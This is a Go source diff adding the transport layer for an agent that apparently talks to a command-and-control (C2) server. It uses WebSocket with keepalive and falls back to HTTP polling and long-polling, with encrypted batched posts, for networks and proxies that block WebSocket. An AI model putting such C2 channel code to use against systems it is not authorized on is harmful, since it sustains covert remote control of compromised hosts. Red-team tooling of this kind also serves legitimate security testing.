@@ -0,0 +1,383 @@
+package transport
+
+import (
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log"
+	"net/http"
+	"net/url"
+	"strconv"
+	"sync"
+	"time"
+
+	"github.com/gorilla/websocket"
+)
+
+type wsTransport struct {
+	host     Host
+	conn     *websocket.Conn
+	pongWait time.Duration
+	done     chan struct{}
+}
+
+func NewWebSocket(h Host) Transport {
+	return &wsTransport{host: h}
+}
+
+func (t *wsTransport) Dial(u *url.URL, header http.Header) error {
+	proxy, err := proxyURL(t.host.Config())
+	if err != nil {
+		return err
+	}
+	tlsConfig, err := t.host.Credentials().TLSConfig()
+	if err != nil {
+		return err
+	}
+
+	dialer := websocket.Dialer{
+		HandshakeTimeout: t.host.Timeout("handshake_timeout", 10*time.Second),
+		TLSClientConfig:  tlsConfig,
+	}
+	if proxy != nil {
+		dialer.Proxy = http.ProxyURL(proxy)
+	}
+
+	conn, _, err := dialer.Dial(u.String(), header)
+	if err != nil {
+		return err
+	}
+	conn.SetReadLimit(MaxMessageBytes)
+	t.conn = conn
+	t.keepalive()
+	return nil
+}
+
+// keepalive pings every "ws_ping_interval" seconds (default 15) and expires
+// the read deadline when no pong or message arrives within
+// "ws_pong_timeout" seconds (default 2.5 intervals), so half-open links
+// fail fast instead of waiting for a write error
+func (t *wsTransport) keepalive() {
+	interval := 15 * time.Second
+	if val, ok := t.host.Config()["ws_ping_interval"].(float64); ok && val > 0 {
+		interval = time.Duration(val * float64(time.Second))
+	}
+	t.pongWait = interval * 5 / 2
+	if val, ok := t.host.Config()["ws_pong_timeout"].(float64); ok && val > 0 {
+		t.pongWait = time.Duration(val * float64(time.Second))
+	}
+
+	t.conn.SetReadDeadline(time.Now().Add(t.pongWait))
+	t.conn.SetPongHandler(func(string) error {
+		return t.conn.SetReadDeadline(time.Now().Add(t.pongWait))
+	})
+
+	t.done = make(chan struct{})
+	go func() {
+		ticker := time.NewTicker(interval)
+		defer ticker.Stop()
+		for {
+			select {
+			case <-t.done:
+				return
+			case <-ticker.C:
+				if err := t.conn.WriteControl(websocket.PingMessage, nil, time.Now().Add(interval)); err != nil {
+					log.Printf("[%s] WebSocket ping failed: %v", time.Now().Format(time.RFC3339), err)
+					t.conn.Close()
+					return
+				}
+			}
+		}
+	}()
+}
+
+func (t *wsTransport) Send(v interface{}) error {
+	return t.conn.WriteJSON(v)
+}
+
+func (t *wsTransport) SendBinary(data []byte) error {
+	return t.conn.WriteMessage(websocket.BinaryMessage, data)
+}
+
+func (t *wsTransport) Receive(v *map[string]interface{}) error {
+	frameType, data, err := t.conn.ReadMessage()
+	if err != nil {
+		return err
+	}
+	t.conn.SetReadDeadline(time.Now().Add(t.pongWait))
+	if frameType == websocket.BinaryMessage {
+		err = DecodeFrame(t.host.Codec(), data, v)
+	} else {
+		err = json.Unmarshal(data, v)
+	}
+	if err != nil {
+		// The frame was consumed whole, so the connection is still usable
+		return Malformed("undecodable frame: %v", err)
+	}
+	return nil
+}
+
+func (t *wsTransport) SetWriteDeadline(deadline time.Time) error {
+	return t.conn.SetWriteDeadline(deadline)
+}
+
+// SetReadDeadline only tightens the keepalive deadline; pongs extend it again
+func (t *wsTransport) SetReadDeadline(deadline time.Time) error {
+	return t.conn.SetReadDeadline(deadline)
+}
+
+func (t *wsTransport) Close() error {
+	close(t.done)
+	return t.conn.Close()
+}
+
+// httpTransport polls the C2 over HTTP(S) for networks that block WebSocket
+type httpTransport struct {
+	host     Host
+	client   *http.Client
+	endpoint string
+	header   http.Header
+	interval time.Duration
+	pending  []map[string]interface{}
+
+	// Long-polling mode: the C2 holds each GET open for up to "wait", and
+	// outbound messages are batched into one encrypted POST per flush
+	longPoll    bool
+	wait        time.Duration
+	outbox      []interface{}
+	outboxMutex sync.Mutex
+	flushSignal chan struct{}
+	done        chan struct{}
+}
+
+func NewHTTP(h Host) Transport {
+	longPoll, _ := h.Config()["http_long_poll"].(bool)
+	return &httpTransport{host: h, longPoll: longPoll}
+}
+
+// NewLongPoll serves longpoll:// and longpolls:// endpoints for
+// proxies that strip the WebSocket Upgrade header
+func NewLongPoll(h Host) Transport {
+	return &httpTransport{host: h, longPoll: true}
+}
+
+func (t *httpTransport) Dial(u *url.URL, header http.Header) error {
+	endpoint := *u
+	switch endpoint.Scheme {
+	case "wss", "longpolls":
+		endpoint.Scheme = "https"
+	case "ws", "longpoll":
+		endpoint.Scheme = "http"
+	}
+	if override, ok := t.host.Config()["http_fallback_url"].(string); ok && override != "" {
+		parsed, err := url.Parse(override)
+		if err != nil {
+			return fmt.Errorf("invalid http_fallback_url: %v", err)
+		}
+		endpoint = *parsed
+	}
+
+	t.interval = 5 * time.Second
+	if val, ok := t.host.Config()["http_poll_interval"].(float64); ok && val > 0 {
+		t.interval = time.Duration(val) * time.Second
+	}
+
+	proxy, err := proxyURL(t.host.Config())
+	if err != nil {
+		return err
+	}
+	tlsConfig, err := t.host.Credentials().TLSConfig()
+	if err != nil {
+		return err
+	}
+
+	roundTripper := &http.Transport{
+		TLSClientConfig:       tlsConfig,
+		TLSHandshakeTimeout:   t.host.Timeout("handshake_timeout", 10*time.Second),
+		ResponseHeaderTimeout: t.host.Timeout("read_timeout", 0),
+	}
+	if proxy != nil {
+		roundTripper.Proxy = http.ProxyURL(proxy)
+	}
+	t.client = &http.Client{Timeout: 30 * time.Second, Transport: roundTripper}
+	t.endpoint = endpoint.String()
+	t.header = header.Clone()
+	t.header.Set("X-Agent-ID", t.host.AgentID())
+
+	if t.longPoll {
+		t.wait = 30 * time.Second
+		if val, ok := t.host.Config()["http_long_poll_wait"].(float64); ok && val > 0 {
+			t.wait = time.Duration(val) * time.Second
+		}
+		t.client.Timeout = t.wait + 30*time.Second
+		t.flushSignal = make(chan struct{}, 1)
+		t.done = make(chan struct{})
+		go t.flusher()
+		log.Printf("[%s] Using HTTP long-polling transport: %s", time.Now().Format(time.RFC3339), t.endpoint)
+		return nil
+	}
+
+	log.Printf("[%s] Using HTTP polling transport: %s", time.Now().Format(time.RFC3339), t.endpoint)
+	return nil
+}
+
+func (t *httpTransport) Send(v interface{}) error {
+	if t.longPoll {
+		return t.queue(v)
+	}
+	return t.post(v)
+}
+
+func (t *httpTransport) post(v interface{}) error {
+	body, err := json.Marshal(v)
+	if err != nil {
+		return err
+	}
+
+	req, err := http.NewRequest(http.MethodPost, t.endpoint, bytes.NewReader(body))
+	if err != nil {
+		return err
+	}
+	req.Header = t.header.Clone()
+	req.Header.Set("Content-Type", "application/json")
+
+	resp, err := t.client.Do(req)
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	io.Copy(io.Discard, resp.Body)
+
+	if resp.StatusCode >= 300 {
+		return fmt.Errorf("http post failed: %s", resp.Status)
+	}
+	return nil
+}
+
+// queue adds a message to the outbox, flushing early once "http_batch_size"
+// messages (default 50) are waiting
+func (t *httpTransport) queue(v interface{}) error {
+	batchSize := 50
+	if val, ok := t.host.Config()["http_batch_size"].(float64); ok && val > 0 {
+		batchSize = int(val)
+	}
+
+	t.outboxMutex.Lock()
+	t.outbox = append(t.outbox, v)
+	full := len(t.outbox) >= batchSize
+	t.outboxMutex.Unlock()
+
+	if full {
+		select {
+		case t.flushSignal <- struct{}{}:
+		default:
+		}
+	}
+	return nil
+}
+
+// flusher posts the outbox every "http_flush_interval" seconds (default 2)
+func (t *httpTransport) flusher() {
+	interval := 2 * time.Second
+	if val, ok := t.host.Config()["http_flush_interval"].(float64); ok && val > 0 {
+		interval = time.Duration(val * float64(time.Second))
+	}
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+
+	for {
+		select {
+		case <-t.done:
+			t.flush()
+			return
+		case <-ticker.C:
+		case <-t.flushSignal:
+		}
+		if err := t.flush(); err != nil {
+			log.Printf("[%s] HTTP batch post failed: %v", time.Now().Format(time.RFC3339), err)
+		}
+	}
+}
+
+// flush sends the outbox as one batch inside the shared encryption envelope;
+// on failure the batch is kept for the next attempt
+func (t *httpTransport) flush() error {
+	t.outboxMutex.Lock()
+	batch := t.outbox
+	t.outbox = nil
+	t.outboxMutex.Unlock()
+	if len(batch) == 0 {
+		return nil
+	}
+
+	envelope, err := t.host.SealEnvelope(batch)
+	if err == nil {
+		envelope["batch"] = true
+		err = t.post(envelope)
+	}
+	if err != nil {
+		t.outboxMutex.Lock()
+		t.outbox = append(batch, t.outbox...)
+		t.outboxMutex.Unlock()
+	}
+	return err
+}
+
+// Receive polls the C2 for pending messages until at least one is available.
+// In long-polling mode the C2 holds the request open for up to "wait".
+func (t *httpTransport) Receive(v *map[string]interface{}) error {
+	for len(t.pending) == 0 {
+		endpoint := t.endpoint
+		if t.longPoll {
+			u, err := url.Parse(endpoint)
+			if err != nil {
+				return err
+			}
+			q := u.Query()
+			q.Set("wait", strconv.Itoa(int(t.wait.Seconds())))
+			u.RawQuery = q.Encode()
+			endpoint = u.String()
+		}
+		req, err := http.NewRequest(http.MethodGet, endpoint, nil)
+		if err != nil {
+			return err
+		}
+		req.Header = t.header.Clone()
+
+		resp, err := t.client.Do(req)
+		if err != nil {
+			return err
+		}
+		if resp.StatusCode >= 300 {
+			resp.Body.Close()
+			return fmt.Errorf("http poll failed: %s", resp.Status)
+		}
+
+		var messages []map[string]interface{}
+		if resp.StatusCode != http.StatusNoContent {
+			if err := json.NewDecoder(io.LimitReader(resp.Body, MaxMessageBytes)).Decode(&messages); err != nil && err != io.EOF {
+				resp.Body.Close()
+				return err
+			}
+		}
+		resp.Body.Close()
+
+		t.pending = append(t.pending, messages...)
+		if len(t.pending) == 0 && !t.longPoll {
+			time.Sleep(t.interval)
+		}
+	}
+
+	*v = t.pending[0]
+	t.pending = t.pending[1:]
+	return nil
+}
+
+func (t *httpTransport) Close() error {
+	if t.done != nil {
+		close(t.done)
+	}
+	t.client.CloseIdleConnections()
+	return nil
+}